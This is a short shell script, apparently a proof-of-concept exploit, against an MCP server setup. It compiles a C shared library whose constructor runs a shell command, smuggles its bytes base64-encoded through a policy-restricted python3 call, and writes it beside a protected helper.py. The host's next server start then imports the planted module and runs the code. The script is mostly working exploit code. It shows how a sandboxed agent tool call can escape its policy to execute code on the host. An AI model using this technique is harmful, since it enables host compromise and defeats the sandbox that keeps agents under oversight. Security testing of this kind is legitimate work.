#!/bin/sh
# F5 end to end: after f5_shadow.py's setup (.mcp.json runs python3 py/main.py, which does `import helper`; helper.py is
# protected), a call of the pinned python3 (policy py.toml) writes py/helper.cpython-3XX-….so, a real extension module
# (compiled here on the host beforehand, its bytes passed base64 in the call's own arguments); the commit applies it; the
# host's next start of the server imports the .so before helper.py and runs the call's code.
set -e
cd /tmp/atk40b
rm -f /tmp/atk40b/PWNED-so ws/py/helper*.so
SUF=$(python3 -c 'import sysconfig; print(sysconfig.get_config_var("EXT_SUFFIX"))')
cat > helper.c <<'EOC'
#include <stdlib.h>
__attribute__((constructor)) static void pwn(void) { system("id > /tmp/atk40b/PWNED-so"); }
void *PyInit_helper(void) { return 0; }
EOC
gcc -shared -fPIC -o helper.so helper.c
B64=$(base64 -w0 helper.so)
cat > so_inside.py <<EOP
import base64
open("py/helper$SUF", "wb").write(base64.b64decode("$B64"))
print("wrote py/helper$SUF")
EOP
python3 /work/notes/atk40b/pyrun.py /tmp/atk40b/py.toml so_inside.py | tail -2
echo "--- the host starts the server as the client does"
cd ws && python3 py/main.py 2>&1 | tail -1 || true
cat /tmp/atk40b/PWNED-so
